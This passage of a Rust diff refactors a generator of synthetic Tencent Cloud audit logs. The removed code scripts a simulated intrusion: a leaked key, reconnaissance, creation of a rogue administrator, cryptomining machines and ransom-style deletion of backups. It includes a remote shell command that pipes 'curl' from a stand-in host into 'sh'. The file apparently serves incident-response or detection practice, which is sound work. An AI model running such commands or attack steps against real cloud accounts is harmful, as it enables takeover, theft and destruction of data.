         ("cvm" | "cbs", false) => json!({"InstanceIds": [format!("ins-demo000{number}")]}),
         (_, false) => json!({"Name": format!("shop-{number}"), "Comment": "usual work"}),
     };
-    event.params(params);
+    event
 }
 
-/// The owner looks around in the console, and switches the tracking set on.
-fn root_console(story: &mut Story) {
-    story.call(
-        time(2, "14:52:10"),
-        &ROOT_CONSOLE,
-        "cloudaudit:DescribeAuditTracks",
-    );
-    story
-        .call(
-            time(2, "14:57:41"),
-            &ROOT_CONSOLE,
-            "cloudaudit:CreateAuditTrack",
-        )
-        .params(json!({
-            "ActionType": "*", "EventNames": ["*"], "Name": "all-to-cos", "ResourceType": "*",
-            "Status": 1, "Storage": {"StorageType": "cos", "StorageRegion": "ap-guangzhou",
-                "StorageName": format!("audit-{APP_ID}"), "StoragePrefix": "logs"}
-        }));
-    for (day, clock) in [
-        (4, "10:05:12"),
-        (6, "14:02:30"),
-        (9, "09:40:05"),
-        (13, "16:20:44"),
-    ] {
-        let at = time(day, clock);
-        story.call(at, &ROOT_CONSOLE, "billing:DescribeAccountBalance");
-        story.call(at + 35, &ROOT_CONSOLE, "cam:ListUsers");
-    }
-}
-
-fn billing_orders(story: &mut Story) {
-    for (day, clock) in [(3, "00:05:00"), (8, "00:05:00"), (12, "00:05:01")] {
-        let order = story.call(time(day, clock), &ROOT_ORDER, "cvm:RenewInstances");
-        order.params(Value::Null).state(State::Order);
-    }
-}
-
-// ---------------------------------------------------------------- what stands out, yet is harmless
-
-/// A build asks for something its policies do not name.
-fn denied_builds(story: &mut Story) {
-    for clock in ["10:14:08", "10:14:39"] {
-        let denied = story.call(time(3, clock), &CI, "monitor:DescribeAlarmPolicies");
-        denied.failed(&NOT_GRANTED);
-    }
-}
-
-fn test_machines(story: &mut Story) {
-    for (day, clock) in [(3, "11:30:00"), (9, "15:10:25")] {
-        run_instances(story, time(day, clock), &CI, "S5.MEDIUM4");
-    }
-}
-
-fn run_instances(story: &mut Story, at: i64, caller: &'static Caller, kind: &str) {
-    let number = story.random.below(90) + 10;
-    story
-        .call(at, caller, "cvm:RunInstances")
-        .params(json!({
-            "InstanceType": kind, "InstanceCount": 1, "ImageId": "img-demo0001",
-            "InstanceName": "build-test", "Placement": {"Zone": "ap-guangzhou-3"}
-        }))
-        .reply(json!({"InstanceIdSet": [format!("ins-demo01{number}")]}));
-}
-
-/// A sub-user is made in the console and may read, nothing else.
-fn new_colleague(story: &mut Story) {
-    let uin: u64 = 100_000_000_024;
-    let made = story.call(time(4, "14:31:50"), &OPS, "cam:AddUser");
-    made.params(json!({"Name": "intern-qa", "ConsoleLogin": 1, "UseApi": 0}));
-    made.reply(json!({"Uin": uin, "Name": "intern-qa", "Uid": 9_000_024}));
-    let granted = story.call(time(4, "14:33:02"), &OPS, "cam:AttachUserPolicy");
-    granted.params(json!({"AttachUin": uin, "PolicyId": 2, "PolicyName": "ReadOnlyAccess"}));
-}
-
-/// Test machines are thrown away and built anew, from before midnight until after it.
-fn night_deployment(story: &mut Story) {
-    let start = time(5, "23:30:12");
-    for round in 0..6 {
-        let at = start + round * 560;
-        let id = format!("ins-demo009{round}");
-        story
-            .call(at, &CI, "cvm:DescribeInstances")
-            .params(json!({"InstanceIds": [id.clone()]}));
-        story
-            .call(at + 20, &CI, "cvm:TerminateInstances")
-            .params(json!({"InstanceIds": [id]}));
-        run_instances(story, at + 140, &CI, "S5.MEDIUM4");
-        story.call(at + 200, &CI, "cvm:DescribeInstancesStatus");
-    }
-}
-
-/// The owner tidies up users on the command line, with the root key.
-fn careless_root(story: &mut Story) {
-    story
-        .call(time(6, "14:11:20"), &ROOT, "cam:ListUsers")
-        .state(State::Broken);
-    let old = json!({"TargetUin": 100_000_000_017_u64});
-    story
-        .call(time(6, "14:12:48"), &ROOT, "cam:ListAccessKeys")
-        .params(old);
-    let delete = json!({"Name": "old-contractor", "Force": 1});
-    story
-        .call(time(6, "14:14:03"), &ROOT, "cam:DeleteUser")
-        .params(delete.clone());
-    let copy = story.call(time(6, "14:14:03"), &ROOT, "cam:DeleteUser");
-    copy.params(delete).state(State::Platform);
-    let made = story.call(time(6, "14:19:36"), &ROOT, "cam:CreateAccessKey");
-    made.params(json!({"TargetUin": 100_000_000_016_u64, "Description": "mobile"}));
-    made.reply(new_key("mobileApi", "2026-03-06 14:19:36"));
-}
-
-fn new_key(end: &str, created: &str) -> Value {
-    json!({"AccessKey": {"AccessKeyId": permanent_key(end), "Status": "Active",
-        "SecretAccessKey": "EXAMPLEnotASecret000000000000000", "CreateTime": created}})
-}
-
-/// A report that nobody has asked for since January runs again.
-fn dormant_key(story: &mut Story) {
-    for (day, clock) in [(7, "11:05:31"), (8, "11:05:29")] {
-        let at = time(day, clock);
-        story.call(at, &REPORT, "billing:DescribeBillSummaryByProduct");
-        story.call(at + 4, &REPORT, "cls:SearchLog");
-        story.call(at + 9, &REPORT, "cos:HeadBucket");
-    }
-}
-
-// ---------------------------------------------------------------- the attack
-
-/// The key was pushed to a public repository; GitHub asks whether it is a live one.
-fn leak_is_confirmed(story: &mut Story) {
-    let check = story.call(time(10, "17:42:18"), &BACKEND, "sts:GetCallerIdentity");
-    check.params(json!({}));
-    check.ip = GITHUB;
-    check.client = "";
-}
-
-const REGIONS: [&str; 12] = [
-    "ap-guangzhou",
-    "ap-shanghai",
-    "ap-nanjing",
-    "ap-beijing",
-    "ap-chengdu",
-    "ap-chongqing",
-    "ap-hongkong",
-    "ap-singapore",
-    "ap-tokyo",
-    "ap-jakarta",
-    "na-ashburn",
-    "eu-frankfurt",
-];
-
-/// Who am I, what is here, in every region: what a listing tool does.
-fn attack_recon(story: &mut Story) {
-    story.attack("02:10:07", &BACKEND, "sts:GetCallerIdentity");
-    story.attack("02:11:02", &BACKEND, "cos:GetService");
-    story.attack("02:11:05", &BACKEND, "cvm:DescribeRegions");
-    for (second, region) in (6..).zip(REGIONS) {
-        let clock = format!("02:11:{second:02}");
-        story
-            .attack(&clock, &BACKEND, "cvm:DescribeInstances")
-            .region(region);
-    }
-    story.attack("02:11:20", &BACKEND, "lighthouse:DescribeRegions");
-    for (second, region) in (21..).zip(&REGIONS[..5]) {
-        let clock = format!("02:11:{second:02}");
-        story
-            .attack(&clock, &BACKEND, "lighthouse:DescribeInstances")
-            .region(region);
-    }
-    story.attack("02:11:31", &BACKEND, "cam:ListUsers");
-    story.attack("02:11:33", &BACKEND, "cam:DescribeRoleList");
-    story.attack("02:12:10", &BACKEND, "cdb:DescribeDBInstances");
-    story.attack("02:12:12", &BACKEND, "redis:DescribeInstances");
-    story.attack("02:12:15", &BACKEND, "vpc:DescribeVpcs");
-    story.attack("02:12:17", &BACKEND, "tke:DescribeClusters");
-    for (clock, uin) in [("02:14:10", 11), ("02:14:12", 12), ("02:14:13", 13)] {
-        let target = json!({"TargetUin": 100_000_000_000_u64 + uin});
-        story
-            .attack(clock, &BACKEND, "cam:ListAccessKeys")
-            .params(target);
-    }
-}
-
-/// What else may this key do? Nothing of this, as the answers say.
-fn attack_guessing(story: &mut Story) {
-    const TRIED: [&str; 11] = [
-        "kms:ListKeys",
-        "ssm:ListSecrets",
-        "scf:ListFunctions",
-        "organization:DescribeOrganization",
-        "cls:DescribeTopics",
-        "tcr:DescribeInstances",
-        "es:DescribeInstances",
-        "ckafka:DescribeInstances",
-        "cloudaudit:DeleteAuditTrack",
-        "cbs:DeleteSnapshots",
-        "tke:DescribeClusterKubeconfig",
-    ];
-    for (number, api) in (0..22_usize).zip(TRIED.into_iter().cycle()) {
-        let (minute, second) = (16 + number / 11, number % 11 * 5);
-        let clock = format!("02:{minute}:{second:02}");
-        let failure = if number % 3 == 0 {
-            &NOT_GRANTED
-        } else {
-            &NOT_AUTHORIZED
-        };
-        story.attack(&clock, &BACKEND, api).failed(failure);
-    }
-}
-
-/// The key may manage users, which is enough: a new administrator with a key of its own.
-fn attack_takeover(story: &mut Story) {
-    let uin: u64 = 100_000_000_019;
-    let made = story.attack("02:22:11", &BACKEND, "cam:AddUser");
-    made.params(json!({"Name": "crossfire", "ConsoleLogin": 1, "UseApi": 1,
-        "Password": "Example-Passw0rd", "NeedResetPassword": 0}));
-    made.reply(json!({"Uin": uin, "Name": "crossfire", "Uid": 9_000_019,
-        "Password": "Example-Passw0rd", "SecretId": permanent_key("crossfire"),
-        "SecretKey": "EXAMPLEnotASecret000000000000000"}));
-    let name = json!({"Name": "crossfire"});
-    story
-        .attack("02:22:14", &BACKEND, "cam:GetUser")
-        .params(name);
-    let grant = json!({"AttachUin": uin, "PolicyId": 1});
-    story
-        .attack("02:22:19", &BACKEND, "cam:AttachUserPolicy")
-        .params(grant);
-    story
-        .attack("02:22:25", &BACKEND, "cam:GetUserAppId")
-        .params(json!({}));
-}
-
-/// The new user runs commands on the machines, opens ports and buys machines for mining.
-fn attack_foothold(story: &mut Story) {
-    story.attack("02:24:20", &CROSSFIRE, "cvm:DescribeRegions");
-    story.attack("02:24:31", &CROSSFIRE, "cvm:DescribeInstances");
-    let script = "#!/bin/sh\ncurl -fsS http://192.0.2.66/setup.sh | sh\n";
-    story
-        .attack("02:26:05", &CROSSFIRE, "tat:RunCommand")
-        .params(json!({
-            "CommandType": "SHELL", "Content": base64(script.as_bytes()), "Timeout": 60,
-            "InstanceIds": ["ins-demo0001", "ins-demo0002", "ins-demo0003"]
-        }))
-        .reply(json!({"CommandId": "cmd-demo0001", "InvocationId": "inv-demo0001"}));
-    story.attack("02:26:12", &CROSSFIRE, "tat:DescribeInvocationTasks");
-    story
-        .attack("02:29:40", &CROSSFIRE, "tke:DescribeClusterKubeconfig")
-        .params(json!({"ClusterId": "cls-demo0001"}));
-    story
-        .attack("02:31:02", &CROSSFIRE, "vpc:CreateSecurityGroupPolicies")
-        .params(json!({
-            "SecurityGroupId": "sg-demo0001", "SecurityGroupPolicySet": {"Ingress": [
-                {"Protocol": "ALL", "Port": "ALL", "CidrBlock": "0.0.0.0/0", "Action": "ACCEPT"}]}
-        }));
-    let regions = ["ap-guangzhou", "ap-hongkong", "ap-singapore"];
-    for (clock, region) in ["02:33:15", "02:33:19", "02:33:24"]
-        .into_iter()
-        .zip(regions)
-    {
-        let buy = story
-            .attack(clock, &CROSSFIRE, "cvm:RunInstances")
-            .region(region);
-        buy.params(
-            json!({"InstanceType": "GN7.20XLARGE320", "InstanceCount": 10,
-            "ImageId": "img-demo0002", "InstanceChargeType": "POSTPAID_BY_HOUR",
-            "UserData": base64(b"#!/bin/sh\n# starts a miner\n")}),
-        );
-        if region == "ap-hongkong" {
-            buy.failed(&SOLD_OUT);
-        } else {
-            buy.reply(json!({"InstanceIdSet": ["ins-demo0201", "ins-demo0202"]}));
+/// Reads a line of the story.
+fn told_event(row: &'static str, callers: &'static [Caller], random: &mut Random) -> Event {
+    let (words_part, json_part) = row.split_at(row.find('{').unwrap_or(row.len()));
+    let ([day, clock, handle, api], options) = words(words_part);
+    let at = time_in_march(number(day), clock);
+    let mut event = Event::new(at, caller_of(callers, handle), api, random);
+    for option in options {
+        match option.split_at(1) {
+            ("@", region) => event.region = region,
+            ("!", mark) => event.mark = mark,
+            _ => panic!("an option is @region or !mark, not {option}"),
         }
     }
-}
-
-/// First the copies are deleted, then the originals; a bucket's name is the ransom note.
-fn attack_ransom(story: &mut Story) {
-    story.attack("02:41:00", &CROSSFIRE, "cbs:DescribeSnapshots");
-    for (clock, snapshot) in [("02:41:20", "snap-demo0001"), ("02:41:22", "snap-demo0002")] {
-        let which = json!({"SnapshotIds": [snapshot]});
-        story
-            .attack(clock, &CROSSFIRE, "cbs:DeleteSnapshots")
-            .params(which);
+    let mut bodies = json_part.split(" => ").filter(|body| !body.is_empty());
+    let mut next = || bodies.next().map(|body| filled_in(&json_of(body)));
+    event.params = next().unwrap_or(event.params);
+    event.reply = next().unwrap_or(event.reply);
+    if event.mark == "order" {
+        event.params = Value::Null;
     }
-    let database = json!({"InstanceId": "cdb-demo0001"});
-    story
-        .attack("02:43:47", &CROSSFIRE, "cdb:IsolateDBInstance")
-        .params(database);
-    let machines = json!({"InstanceIds": ["ins-demo0002", "ins-demo0003"]});
-    story
-        .attack("02:45:05", &CROSSFIRE, "cvm:TerminateInstances")
-        .params(machines);
-    let backups = json!({"Bucket": format!("backup-{APP_ID}")});
-    story
-        .attack("02:47:31", &CROSSFIRE, "cos:DeleteBucket")
-        .params(backups);
-    let note = json!({"Bucket": format!("pay-to-restore-{APP_ID}")});
-    story
-        .attack("02:52:10", &CROSSFIRE, "cos:PutBucket")
-        .params(note);
+    event
 }
 
-/// In the morning the key is switched off, the user is deleted, and the service gets a new key.
-fn response(story: &mut Story) {
-    let day = 11;
-    story
-        .call(time(day, "09:12:05"), &OPS, "cam:UpdateAccessKey")
-        .params(json!({
-            "TargetUin": 100_000_000_012_u64, "AccessKeyId": permanent_key("appBackend1"),
-            "Status": "Inactive"
-        }));
-    let grant = json!({"DetachUin": 100_000_000_019_u64, "PolicyId": 1});
-    story
-        .call(time(day, "09:14:41"), &OPS, "cam:DetachUserPolicy")
-        .params(grant);
-    let user = json!({"Name": "crossfire", "Force": 1});
-    story
-        .call(time(day, "09:15:20"), &OPS, "cam:DeleteUser")
-        .params(user);
-    let miners = json!({"InstanceIds": ["ins-demo0201", "ins-demo0202"]});
-    story
-        .call(time(day, "09:22:37"), &OPS, "cvm:TerminateInstances")
-        .params(miners);
-    let made = story.call(time(day, "09:41:10"), &OPS, "cam:CreateAccessKey");
-    made.params(
-        json!({"TargetUin": 100_000_000_012_u64, "Description": "replaces the leaked one"}),
-    );
-    made.reply(new_key("appBackend2", "2026-03-11 09:41:10"));
-    story
-        .attack("21:07:50", &BACKEND, "sts:GetCallerIdentity")
-        .failed(&NO_SUCH_KEY);
+fn json_of(text: &str) -> Value {
+    serde_json::from_str(text).expect("the story holds valid JSON")
+}
+
+/// Writes out key ids and encodes what is to be encoded.
+fn filled_in(value: &Value) -> Value {
+    match value {
+        Value::Object(fields) => {
+            let fields = fields.iter();
+            fields.map(|(name, value)| (name.clone(), filled_in(value))).collect()
+        }
+        Value::String(text) => match text.split_once(':') {
+            Some(("key", end)) => json!(permanent_key(end)),
+            Some(("base64", text)) => json!(base64(text.as_bytes())),
+            _ => value.clone(),
+        },
+        _ => value.clone(),
+    }
 }
 
 fn base64(bytes: &[u8]) -> String {
-    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut text = String::new();
     for chunk in bytes.chunks(3) {
-        let group = (0..3).fold(0, |sum, at| {
-            sum << 8 | u32::from(*chunk.get(at).unwrap_or(&0))
-        });
+        let byte = |at: usize| usize::from(*chunk.get(at).unwrap_or(&0));
+        let group = byte(0) << 16 | byte(1) << 8 | byte(2);
         for at in 0..4 {
-            let letter = LETTERS[(group >> (18 - 6 * at)) as usize & 63];
-            text.push(if at > chunk.len() {
-                '='
-            } else {
-                char::from(letter)
-            });
+            let letter = LETTERS[group >> (18 - 6 * at) & 63];
+            text.push(if at > chunk.len() { '=' } else { char::from(letter) });
         }
     }
     text
@@ -988,58 +411,52 @@ fn base64(bytes: &[u8]) -> String {
 
 /// Returns the record as the API gives it. What is shipped is the same with less in it.
 fn record(event: &Event) -> Map<String, Value> {
-    let failure = event.failure;
-    let auth = failure.map_or("0", |failure| failure.auth);
-    let code = failure.map_or(json!(0), |failure| json!(failure.code));
+    let (auth, code, words) = event.outcome();
+    let is_console = event.caller.is_console();
     let mut reply = event.reply.clone();
     reply["RequestId"] = json!(event.id);
     let params = match &event.params {
         Value::Null => String::new(),
         params => params.to_string(),
     };
-    let record = json!({
+    let fields = json!({
         "userIdentity": identity(event),
         "eventRegion": event.region,
         "eventVersion": 2,
         "errorCode": auth,
-        "errorMessage": if event.caller.kind.is_console() { "" } else { "permission verify" },
+        "errorMessage": if is_console { "" } else { "permission verify" },
         "requestID": event.id,
         "eventID": event.id,
         "apiVersion": "3.0",
-        "eventType": if event.caller.kind.is_console() { "ConsoleCall" } else { "ApiCall" },
+        "eventType": if is_console { "ConsoleCall" } else { "ApiCall" },
         "actionType": if event.is_read() { "Read" } else { "Write" },
         "httpMethod": "POST",
-        "apiErrorCode": code,
-        "apiErrorMessage": failure.map_or("", |failure| failure.message),
-        "userAgent": event.client,
+        "apiErrorCode": if code == "0" { json!(0) } else { json!(code) },
+        "apiErrorMessage": words,
+        "userAgent": event.caller.client.replace(';', "; "),
         "eventTime": event.at,
-        "sourceIPAddress": event.ip,
+        "sourceIPAddress": event.caller.ip,
         "eventSource": host(event),
         "resources": "[\"*\"]",
         "resourceName": "",
         "resourceSet": [],
         "requestParameters": params,
-        "responseElements": if failure.is_some() { "{}".to_owned() } else { reply.to_string() },
+        "responseElements": if code == "0" { reply.to_string() } else { "{}".to_owned() },
         "resourceType": event.service,
         "eventName": event.action,
         "sensitiveAction": if event.is_read() { "0" } else { "1" },
-        "eventPlatform": if event.state == State::Platform { "1" } else { "0" },
+        "eventPlatform": if event.mark == "platform" { "1" } else { "0" },
         "tags": [""],
     });
-    match record {
-        Value::Object(record) => record,
-        _ => unreachable!("an object was written above"),
-    }
+    fields.as_object().expect("written as an object").clone()
 }
 
 fn host(event: &Event) -> String {
-    let service = event.service;
+    let (service, region) = (event.service, event.region);
     match event.caller.kind {
-        Kind::RootConsole | Kind::UserConsole => {
-            format!("{service}.{}.api.tencentyun.com", event.region)
-        }
-        Kind::Service => format!("{service}.internal.tencentcloudapi.com"),
-        _ if service == "cos" => format!("cos.{}.myqcloud.com", event.region),
+        "root-console" | "user-console" => format!("{service}.{region}.api.tencentyun.com"),
+        "service" => format!("{service}.internal.tencentcloudapi.com"),
+        _ if service == "cos" => format!("cos.{region}.myqcloud.com"),
         _ => format!("{service}.tencentcloudapi.com"),
     }
 }
@@ -1047,66 +464,63 @@ fn host(event: &Event) -> String {
 fn identity(event: &Event) -> Value {
     let caller = event.caller;
     let kind = match caller.kind {
-        Kind::RootKey | Kind::RootConsole | Kind::RootOrder => "Root",
-        Kind::UserKey | Kind::UserConsole => "CAMUser",
-        Kind::Service => "TencentCloudService",
+        "service" => "TencentCloudService",
+        _ if caller.is_root() => "Root",
+        _ => "CAMUser",
     };
     json!({
         "type": kind,
         "principalId": caller.uin,
-        "accountId": ACCOUNT,
+        "accountId": ACCOUNT.to_string(),
         "userName": caller.name,
         "secretId": caller.key_at(event.at),
-        "roleSessionName": if caller.kind == Kind::Service { "tke-demo" } else { "" },
+        "roleSessionName": if caller.is_service() { "tke-demo" } else { "" },
         "sessionContext": session(event),
     })
 }
 
 /// Returns the session as text, which again holds text; empty for permanent keys.
 fn session(event: &Event) -> String {
-    let (caller, expires) = (event.caller, local(event.at + 7200, "%Y-%m-%d %H:%M:%S"));
-    let owner: u64 = ACCOUNT.parse().expect("the account is a number");
-    let extra = match caller.kind {
-        Kind::RootKey | Kind::UserKey | Kind::RootOrder => return String::new(),
-        Kind::Service => json!({"roleOwnerUin": owner, "roleName": caller.name, "roleType": 2,
-            "roleSessionName": "tke-demo"}),
-        Kind::RootConsole | Kind::UserConsole => json!({"dictId": 2001,
-            "mfaExpireTime": "0000-00-00 00:00:00", "sessionUin": caller.uin}),
+    let caller = event.caller;
+    let extra = if caller.is_service() {
+        json!({"roleOwnerUin": ACCOUNT, "roleName": caller.name, "roleType": 2,
+            "roleSessionName": "tke-demo"})
+    } else if caller.is_console() {
+        json!({"mfaExpireTime": "0000-00-00 00:00:00", "sessionUin": caller.uin})
+    } else {
+        return String::new();
     };
     let user_ip = match caller.kind {
-        Kind::Service => "",
+        "service" => "",
         _ if caller.ip.starts_with("10.") => "198.51.100.25",
         _ => caller.ip,
     };
     let session = json!({"token": "REDACTED", "ua": "0123456789abcdef0123456789abcdef",
-        "userIp": user_ip, "uin": caller.uin, "ownerUin": owner, "appId": APP_ID,
-        "expireTime": expires, "mfa": 1, "mfaExpireTime": "0000-00-00 00:00:00",
-        "interfaceName": "", "hasPolicyFilter": 0, "policyFilter": "",
-        "extraInfo": extra.to_string()});
+        "userIp": user_ip, "uin": caller.uin, "ownerUin": ACCOUNT, "appId": APP_ID,
+        "expireTime": local(event.at + 7200, "%Y-%m-%d %H:%M:%S"), "mfa": 1,
+        "mfaExpireTime": "0000-00-00 00:00:00", "interfaceName": "", "hasPolicyFilter": 0,
+        "policyFilter": "", "extraInfo": extra.to_string()});
     session.to_string()
 }
 
 // ---------------------------------------------------------------- logs as files
 
 /// Writes what the tracking set shipped: one packed file for a few days, one record a line.
-fn write_shipped(folder: &Path, story: &mut Story) -> usize {
-    let mut written = 0;
+fn write_shipped(folder: &Path, events: &[Event], random: &mut Random) {
     let mut first = 2;
-    for last in [4, 6, 8, 10, 12, 15] {
+    for last in SHIPPED_AT {
+        let days = time_in_march(first, "00:00:00")..time_in_march(last + 1, "00:00:00");
         let mut lines = String::new();
-        let days = time(first, "00:00:00")..time(last + 1, "00:00:00");
-        for event in story.events.iter().filter(|event| days.contains(&event.at)) {
+        for event in events.iter().filter(|event| days.contains(&event.at)) {
             if event.is_shipped() {
-                lines.push_str(&shipped_line(event, &mut story.random));
+                lines.push_str(&shipped_line(event, random));
                 lines.push('\n');
-                written += 1;
             }
         }
-        let name = format!("{last:02}/cloudaudit_202603{first:02}-202603{last:02}.gz");
-        write_file(&folder.join("2026/03").join(name), &gzip(lines.as_bytes()));
+        let name = format!("2026/03/{last:02}/cloudaudit_202603{first:02}-202603{last:02}.gz");
+        write_file(&folder.join(name), &gzip(lines.as_bytes()));
         first = last + 1;
     }
-    written
 }
 
 /// Returns a record without what is not shipped, its fields in some order.
@@ -1116,63 +530,56 @@ fn shipped_line(event: &Event, random: &mut Random) -> String {
     rest.retain(|(name, _)| !LEFT_OUT.contains(&name.as_str()));
     let mut mixed = Map::new();
     while !rest.is_empty() {
-        let (name, value) = rest.swap_remove(random.below(rest.len()));
+        let (name, value) = rest.swap_remove(random.index(rest.len()));
         let value = if value == json!(0) { json!("0") } else { value };
         mixed.insert(name, value);
     }
     let mut line = Value::Object(mixed).to_string();
-    if event.state == State::Cut {
+    if event.mark == "cut" {
         line.truncate(line.len() / 2);
     }
     line
 }
 
-/// Writes packed bytes that do not tell when they were packed.
+/// Packs bytes without telling when.
 fn gzip(bytes: &[u8]) -> Vec<u8> {
-    let mut packer = GzBuilder::new()
-        .mtime(0)
-        .write(Vec::new(), Compression::best());
+    let mut packer = GzBuilder::new().mtime(0).write(Vec::new(), Compression::best());
     packer.write_all(bytes).expect("memory takes every byte");
     packer.finish().expect("memory takes every byte")
 }
 
 /// Writes root's records as the command line tool prints them, newest first.
-fn write_fetched(path: &Path, events: &[Event]) -> usize {
-    let of_root = events.iter().filter(|event| event.caller.kind.is_root());
-    let rows: Vec<Value> = of_root.rev().map(fetched_row).collect();
-    let reply = json!({"ListOver": true, "NextToken": 0, "Events": rows, "TotalCount": rows.len(),
-        "RequestId": "00000000-0000-4000-8000-00000000d003"});
+fn write_fetched(path: &Path, events: &[Event]) {
+    let of_root = events.iter().rev().filter(|event| event.caller.is_root());
+    let rows: Vec<Value> = of_root.map(fetched_row).collect();
+    let reply = json!({"ListOver": true, "NextToken": 0, "Events": rows,
+        "TotalCount": rows.len(), "RequestId": saved_id(0)});
     write_json(path, &reply);
-    rows.len()
 }
 
 fn fetched_row(event: &Event) -> Value {
     let inner = record(event);
-    let mut text = Value::Object(inner.clone()).to_string();
-    if event.state == State::Broken {
-        let params = &inner["requestParameters"];
-        let bare = params.as_str().expect("parameters are text");
-        text = text.replacen(&params.to_string(), &format!("\"{bare}\""), 1);
+    let params = inner["requestParameters"].clone();
+    let mut text = Value::Object(inner).to_string();
+    if event.mark == "broken" {
+        // Quotes inside a text that nobody escaped, as real exports have them.
+        let bare = format!("\"{}\"", params.as_str().expect("parameters are text"));
+        text = text.replacen(&params.to_string(), &bare, 1);
     }
-    let auth = event.failure.map_or("0", |failure| failure.auth);
-    let auth: u32 = auth
-        .parse()
-        .expect("codes of the permission check are numbers");
-    let account: u64 = ACCOUNT.parse().expect("the account is a number");
     json!({
         "EventId": event.id,
         "Username": event.caller.name,
         "EventTime": event.at.to_string(),
         "CloudAuditEvent": text,
         "ResourceTypeCn": chinese_name(event.service),
-        "ErrorCode": auth,
+        "ErrorCode": number::<u32>(event.outcome().0),
         "EventName": event.action,
         "SecretId": event.caller.key_at(event.at),
         "EventSource": host(event),
         "RequestID": event.id,
         "ResourceRegion": "",
-        "AccountID": account,
-        "SourceIPAddress": event.ip,
+        "AccountID": ACCOUNT,
+        "SourceIPAddress": event.caller.ip,
         "EventNameCn": null,
         "Resources": {"ResourceType": event.service, "ResourceName": ""},
         "EventRegion": event.region,
@@ -1190,45 +597,34 @@ fn chinese_name(service: &str) -> Option<&'static str> {
 }
 
 /// Writes what the console exports for the users on the first day, newest first. The last
-/// three hours of it were shipped as well.
-fn write_exported(path: &Path, events: &[Event]) -> usize {
-    let mut text = "\u{feff}AccountID,CloudAuditEvent,ErrorCode,EventName,EventTime,RequestID,\
-        Resources,SecretId,SourceIPAddress,Username,eventRegion,eventSource\n"
-        .to_owned();
-    let until = time(2, "18:00:00");
-    let of_users = events
-        .iter()
-        .filter(|event| event.at < until && !event.caller.kind.is_root());
-    let rows: Vec<String> = of_users.rev().map(exported_row).collect();
-    text.push_str(&rows.concat());
-    write_file(path, text.as_bytes());
-    rows.len()
+/// hours of it were shipped as well.
+fn write_exported(path: &Path, events: &[Event]) {
+    const HEADER: &str = "AccountID,CloudAuditEvent,ErrorCode,EventName,EventTime,RequestID,\
+        Resources,SecretId,SourceIPAddress,Username,eventRegion,eventSource";
+    let until = time(EXPORTED_UNTIL);
+    let of_day = events.iter().rev().filter(|event| event.at < until);
+    let of_users = of_day.filter(|event| !event.caller.is_root());
+    let rows: String = of_users.map(exported_row).collect();
+    write_file(path, format!("\u{feff}{HEADER}\n{rows}").as_bytes());
 }
 
 fn exported_row(event: &Event) -> String {
-    let inner = Value::Object(record(event)).to_string();
     let cells = [
-        ACCOUNT,
-        &inner,
-        event.failure.map_or("0", |failure| failure.auth),
-        event.action,
-        &local(event.at, "%Y-%m-%d %H:%M:%S"),
-        &event.id,
-        "{}",
-        &event.caller.key_at(event.at),
-        event.ip,
-        event.caller.name,
-        event.region,
-        &host(event),
+        ACCOUNT.to_string(),
+        Value::Object(record(event)).to_string(),
+        event.outcome().0.to_owned(),
+        event.action.to_owned(),
+        local(event.at, "%Y-%m-%d %H:%M:%S"),
+        event.id.clone(),
+        "{}".to_owned(),
+        event.caller.key_at(event.at),
+        event.caller.ip.to_owned(),
+        event.caller.name.to_owned(),
+        event.region.to_owned(),
+        host(event),
     ];
-    let quoted = cells.map(|cell| {
-        let plain = !cell.contains([',', '"', '\n']);
-        if plain {
-            cell.to_owned()
-        } else {
-            format!("\"{}\"", cell.replace('"', "\"\""))
-        }
-    });
+    let quoted =
+        cells.map(|cell| if cell.contains([',', '"']) { format!("\"{}\"", cell.replace('"', "\"\"")) } else { cell });
     format!("{}\n", quoted.join(","))
 }
 
@@ -1250,184 +646,60 @@ fn write_json(path: &Path, value: &Value) {
     write_file(path, text.as_bytes());
 }
 
-// ---------------------------------------------------------------- what the account owns
+// ---------------------------------------------------------------- the inventory as files
 
-fn write_assets(path: &Path) {
-    let lines = [
-        "ID,名称,公网IP,内网IP,备注",
-        "nat-demo0001,nat-build,203.0.113.10,,CI 出口",
-        "ins-demo0001,web-1,203.0.113.21,10.20.1.21,应用后端",
-        "ins-demo0002,web-2,203.0.113.22,10.20.1.22,移动端接口",
-        "ins-demo0003,web-3,203.0.113.23,10.20.1.23,",
-        "ins-demo0004,queue-1,,10.20.1.31,消息队列",
-        "ins-demo0005,report-1,203.0.113.44,10.20.2.44,报表",
-        "ins-demo0006,bastion,203.0.113.50,10.20.0.50,堡垒机",
-        "lb-demo0001,shop-front,203.0.113.80,,",
-        "lb-demo0002,shop-api,203.0.113.81|2001:db8:20::81,,接口入口",
-        "cdb-demo0001,shop-db,,10.20.3.10,主数据库",
-        "crs-demo0001,shop-cache,,10.20.3.20,",
-        "cls-demo0001,shop-tke,203.0.113.90,10.20.128.0/20,TKE 集群",
-    ];
-    write_file(path, format!("{}\n", lines.join("\n")).as_bytes());
-}
-
-/// A user as the inventory knows it, saved in the morning of the first day.
+/// A user as the inventory knows it.
 struct User {
     uin: u64,
     name: &'static str,
-    remark: &'static str,
-    created: &'static str,
-    key: Option<Key>,
-    policies: &'static [(u32, &'static str)],
+    created: String,
+    /// The end of the key id, or nothing.
+    key: &'static str,
+    key_status: &'static str,
+    key_created: String,
+    key_used: &'static str,
+    policies: &'static str,
 }
 
-struct Key {
-    end: &'static str,
-    status: &'static str,
-    created: &'static str,
-    /// The last use, in March or before; `None` for a key that was never used.
-    used: Option<&'static str>,
-}
-
-impl Key {
-    const fn active(end: &'static str, created: &'static str, used: &'static str) -> Option<Self> {
-        Some(Self {
-            end,
-            status: "Active",
-            created,
-            used: Some(used),
-        })
+impl User {
+    fn of(row: &'static str) -> Self {
+        let ([uin, name, created, key, key_status, key_created, key_used, policies], _) = words(row);
+        Self {
+            uin: number(uin),
+            name,
+            created: created.replace('T', " "),
+            key,
+            key_status,
+            key_created: key_created.replace('T', " "),
+            key_used,
+            policies,
+        }
     }
 }
-
-static USERS: [User; 10] = [
-    User {
-        uin: 100_000_000_011,
-        name: "ci-deploy",
-        remark: "builds and deployments",
-        created: "2024-04-02 10:00:00",
-        key: Key::active("ciDeploy", "2025-09-01 10:12:00", "2026-03-01 17:58:20"),
-        policies: &[(31, "QcloudCVMFullAccess"), (32, "QcloudTKEFullAccess")],
-    },
-    User {
